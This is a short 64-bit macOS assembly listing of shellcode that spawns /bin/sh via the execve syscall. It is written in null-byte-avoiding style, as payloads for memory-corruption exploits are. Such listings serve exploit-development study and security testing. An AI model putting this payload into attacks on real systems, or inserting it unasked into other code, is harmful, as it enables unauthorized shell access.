; macOS, 64 bit: execve("/bin//sh"), number 59 of class 2.
bits 64
        xor rsi, rsi
        push rsi
        mov rdi, '/bin//sh'
        push rdi
        mov rdi, rsp
        xor rdx, rdx
        xor rax, rax
        mov al, 2
        ror rax, 40
        mov al, 59
        syscall
